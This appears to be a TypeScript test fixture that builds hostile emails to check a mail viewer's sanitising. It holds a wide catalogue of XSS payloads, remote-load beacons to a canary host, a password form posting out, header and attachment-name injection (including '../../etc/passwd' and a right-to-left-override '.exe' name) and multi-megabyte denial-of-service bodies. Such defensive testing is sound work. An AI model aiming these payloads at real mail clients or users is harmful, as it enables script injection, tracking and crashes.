/** A mail that tries something with whoever looks at it. */
export interface HostileMail {
  readonly title: string;
  readonly source: Buffer;
}

const HEAD = 'From: mallory@evil.example\r\nTo: ann@contoso.com\r\nMIME-Version: 1.0\r\n';

function htmlMail(title: string, html: string): HostileMail {
  const source = `${HEAD}Subject: ${title}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`;
  return { title, source: Buffer.from(source) };
}

/** @param canary address of a server that nothing may ever connect to */
export function hostileMails(canary: string): HostileMail[] {
  const host = canary.replace(/^http:/, '');
  return [
    htmlMail('script', `<script>alert(1)</script><script src="${canary}/script.js"></script>`),
    htmlMail(
      'event handlers',
      `<img src=x onerror="alert(1)"><svg onload="alert(2)"></svg><body onload=alert(3)><details open ontoggle=alert(4)>x</details><input autofocus onfocus=alert(5)>`,
    ),
    htmlMail(
      'refresh',
      `<meta http-equiv="refresh" content="0;url=${canary}/refresh"><meta HTTP-EQUIV='refresh' content='0;url=javascript:alert(1)'>`,
    ),
    htmlMail(
      'base',
      `<base href="${canary}/base/" target="_top"><img src="picture.png"><link rel="stylesheet" href="style.css">`,
    ),
    htmlMail(
      'form',
      `<form action="${canary}/form" method="post" id="f"><input name="password" autofocus><button>Log in</button></form><button form="f" formaction="${canary}/other">x</button>`,
    ),
    htmlMail(
      'remote images',
      `<img src="${canary}/a.png"><img srcset="${host}/b.png 2x"><picture><source srcset="${canary}/c.png"><img src="${canary}/d.png"></picture><table background="${canary}/e.png"><tr><td>x</td></tr></table><video poster="${canary}/f.png" src="${canary}/g.mp4" autoplay></video><audio src="${canary}/h.mp3" autoplay></audio><input type=image src="${canary}/i.png">`,
    ),
    htmlMail(
      'remote styles and fonts',
      `<style>@import url("${canary}/a.css");@font-face{font-family:x;src:url("${canary}/b.woff2")}body{font-family:x;background:url(${canary}/c.png);cursor:url(${canary}/d.cur),auto}li{list-style-image:url(${canary}/e.png)}</style><link rel=stylesheet href="${canary}/f.css"><p style="background:url('${canary}/g.png')">x<li>y`,
    ),
    htmlMail(
      'connections made ready',
      `<link rel="preconnect" href="${canary}"><link rel=dns-prefetch href="${host}"><link/rel=prefetch href="${canary}/a"><LINK
rel=preload as=image href="${canary}/b.png"><link rel=modulepreload href="${canary}/c.js"><link rel=prerender href="${canary}/d"><link rel=icon href="${canary}/e.ico"><link rel=manifest href="${canary}/f"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Link" content="<${canary}/g>; rel=preload; as=image"><script type="speculationrules">{"prefetch":[{"urls":["${canary}/h"]}]}</script><a href="${canary}/i">i</a>`,
    ),
    htmlMail(
      'frames and objects',
      `<iframe src="${canary}/a"></iframe><iframe srcdoc="<img src='${canary}/b.png'><script>parent.alert(1)</script>"></iframe><object data="${canary}/c.swf"></object><embed src="${canary}/d.pdf"><frameset><frame src="${canary}/e"></frameset><iframe src="javascript:alert(1)"></iframe><object data="data:text/html,<script>alert(2)</script>"></object>`,
    ),
    htmlMail(
      'SVG and MathML',
      `<svg><script>alert(1)</script><image href="${canary}/a.png" /><use href="${canary}/b.svg#x" /><foreignObject><img src="${canary}/c.png"></foreignObject><animate onbegin=alert(2) attributeName=x dur=1s></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(3)'><image href='${canary}/d.png'/></svg>"><math><maction actiontype="statusline#${canary}">x</maction></math>`,
    ),
    htmlMail(
      'whatever else can name an address',
      [
        `<html manifest="${canary}/manifest"><head profile="${canary}/profile"><meta name="referrer" content="unsafe-url">`,
        `<style>@import '${canary}/1.css' layer(a);@namespace url(${canary}/2);p{background:image-set("${canary}/3.png" 1x);mask:url(${canary}/4.svg#m);clip-path:url(${canary}/5.svg#c);filter:url(${canary}/6.svg#f);content:url(${canary}/7.png);shape-outside:url(${canary}/8.png);border-image:url(${canary}/9.png) 1;offset-path:url(${canary}/10.svg#p)}p::before{content:url(${canary}/11.png)}@font-face{font-family:y;src:url(${canary}/12.woff)format("woff")}p::first-letter{font-family:y}svg *{fill:url(${canary}/13.svg#g);marker:url(${canary}/14.svg#k)}</style>`,
        `<p style="background:u\\72l(${canary}/15.png)">text</p><img src="data:," attributionsrc="${canary}/16"><a href="#" attributionsrc="${canary}/17" ping="${canary}/18">x</a>`,
        `<video controls autoplay muted><source src="${canary}/19.mp4"><track default src="${canary}/20.vtt"></video><bgsound src="${canary}/21.wav"><applet code="${canary}/22.class" archive="${canary}/23.jar"></applet><layer src="${canary}/24"></layer><xml src="${canary}/25"></xml><image src="${canary}/26.png"><img dynsrc="${canary}/27" lowsrc="${canary}/28" longdesc="${canary}/29">`,
        `<svg><style>@import url(${canary}/30.css);</style><filter id=f><feImage href="${canary}/31.png"/></filter><rect filter="url(#f)" width=9 height=9 /><a xlink:href="${canary}/32"><text>x</text></a><set attributeName=href to="${canary}/33"/><foreignObject><iframe src="${canary}/34"></iframe></foreignObject><textPath href="${canary}/35.svg#x"/><linearGradient href="${canary}/36.svg#x"/><script href="${canary}/37.js"/></svg>`,
        `<template shadowrootmode=open><link rel=stylesheet href="${canary}/38.css"><img src="${canary}/39.png"><iframe src="${canary}/40"></iframe></template><noscript><img src="${canary}/41.png"><iframe src="${canary}/42"></iframe></noscript>`,
        `<IFRAME\nSRC="${canary}/43"></IFRAME><iframe/src=${canary}/44></iframe><object type="text/html" data="${canary}/45"></object><embed type="image/svg+xml" src="${canary}/46.svg"><isindex action="${canary}/47" type=image src="${canary}/48.png"><input type=image src="${canary}/49.png"><body background="${canary}/50.png">`,
        `<ruby style="background-image:url(&quot;${canary}/51.png&quot;)">x</ruby><blockquote cite="${canary}/52">x</blockquote><del cite="${canary}/53">x</del><menuitem icon="${canary}/54.png"></menuitem><portal src="${canary}/55"></portal><fencedframe src="${canary}/56"></fencedframe><select><option style="background:url(${canary}/57.png)">x</select>`,
      ].join('\n'),
    ),
    htmlMail(
      'ways out of the frame',
      `</iframe></div></body></html><h1>outside</h1><script>top.location='${canary}/top'</script><a href="${canary}/self" target="_top" autofocus>x</a><textarea></textarea><!--><img src=x onerror=alert(1)>--><template><img src=x onerror=alert(2)></template><noscript><p title="</noscript><img src=x onerror=alert(3)>"></noscript>`,
    ),
    htmlMail(
      'character sets',
      `<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-<x\0y onclick=alert(2)>\u2028</x>`,
    ),
    htmlMail('5 MB of HTML', `<table>${'<tr><td>row</td></tr>'.repeat(250_000)}</table>`),
    htmlMail('5 MB of unclosed tags', '<div><a href="'.repeat(400_000)),
    htmlMail('5 MB of heads', '<head '.repeat(900_000)),
    htmlMail('<script>alert("subject")</script>"><img src=x onerror=alert(1)>', '<p>subject</p>'),
    {
      title: 'malformed MIME',
      source: Buffer.from(
        `${HEAD}Subject: =?utf-8?B?bm90IGJhc2U2NA=?= =?x?Q?=ZZ?=\r\nContent-Type: multipart/mixed; boundary="\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; charset=nonsense\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n--x\r\n\r\n--y--\r\n--x`,
      ),
    },
    {
      title: 'nested two thousand deep',
      source: Buffer.from(
        HEAD +
          'Subject: nested two thousand deep\r\n' +
          Array.from(
            { length: 2000 },
            (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`,
          ).join(''),
      ),
    },
    {
      title: 'header injection',
      source: Buffer.from(
        `${HEAD}Subject: =?utf-8?Q?header_injection=0D=0ASet-Cookie:_x=3D1=0D=0A=0D=0A<script>alert(1)</script>?=\r\nX-<script>alert(1)</script>: <img src=x onerror=alert(1)>\r\nContent-Type: text/plain\r\n\r\ntext <script>alert(1)</script> https://contoso.com/"onmouseover="alert(1)\r\n`,
      ),
    },
    {
      title: 'attachment names',
      source: Buffer.from(
        [
          `${HEAD}Subject: attachment names\r\nContent-Type: multipart/mixed; boundary=x\r\n`,
          ...[
            '../../etc/passwd',
            'x\\"\\r\\nSet-Cookie: a=1',
            '=?utf-8?Q?a=0D=0ASet-Cookie:_b=3D1?=',
            '<img src=x onerror=alert(1)>.html',
            '\u202Egpj.exe',
          ].map(
            name =>
              `--x\r\nContent-Type: text/html; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n<script>alert(1)</script>`,
          ),
          '--x--',
        ].join('\r\n'),
      ),
    },
    {
      title: 'one picture ten thousand times',
      source: Buffer.from(
        [
          `${HEAD}Subject: one picture ten thousand times\r\nContent-Type: multipart/related; boundary=x\r\n`,
          `--x\r\nContent-Type: text/html\r\n\r\n${'<img src="cid:p">'.repeat(10_000)}`,
          `--x\r\nContent-Type: image/png\r\nContent-ID: <p>\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.alloc(300_000, 7).toString('base64')}`,
          `--x\r\nContent-Type: text/html\r\nContent-ID: <q>\r\n\r\n<script>alert(1)</script>`,
          '--x--',
        ].join('\r\n'),
      ),
    },
  ];
}
